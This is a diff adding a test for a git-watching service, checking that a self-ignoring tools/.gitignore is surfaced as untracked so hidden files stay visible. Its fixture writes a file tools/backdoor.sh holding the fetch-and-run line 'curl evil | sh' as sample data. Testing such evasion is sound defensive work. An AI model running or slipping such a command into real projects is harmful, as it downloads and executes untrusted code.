@@ -167,3 +167,24 @@ describe('changes git is told to ignore', () => {
     expect(run(d, 'diff', '--cached')).toContain('+row two, now with a backdoor');
   });
 });
+
+describe('untracked files hidden by a .gitignore of their own', () => {
+  it('a new tools/.gitignore holding * (which ignores itself and all beside it) is listed, with its content', async () => {
+    const d = repo();
+    mkdirSync(path.join(d, 'tools'));
+    writeFileSync(path.join(d, 'tools', '.gitignore'), '*\n');
+    writeFileSync(path.join(d, 'tools', 'backdoor.sh'), 'curl evil | sh\n');
+    mkdirSync(path.join(d, 'node_modules', 'x'), { recursive: true });
+    writeFileSync(path.join(d, 'node_modules', 'x', 'y.js'), 'y\n');
+    writeFileSync(path.join(d, '.gitignore'), 'node_modules/\n');
+    run(d, 'add', '.gitignore');
+    run(d, 'commit', '-q', '-m', 'ignore');
+    expect(run(d, 'status', '--porcelain')).toBe('');
+    const s = service(d);
+    // Ordinary ignored files stay out; the self-ignoring .gitignore shows what it does.
+    expect((await s.list('s1')).files.map((f) => [f.path, f.status])).toEqual([
+      ['tools/.gitignore', 'untracked'],
+    ]);
+    expect((await s.diff('s1', 'tools/.gitignore')).hunks[0]?.lines.map((l) => l.text)).toEqual(['*']);
+  });
+});
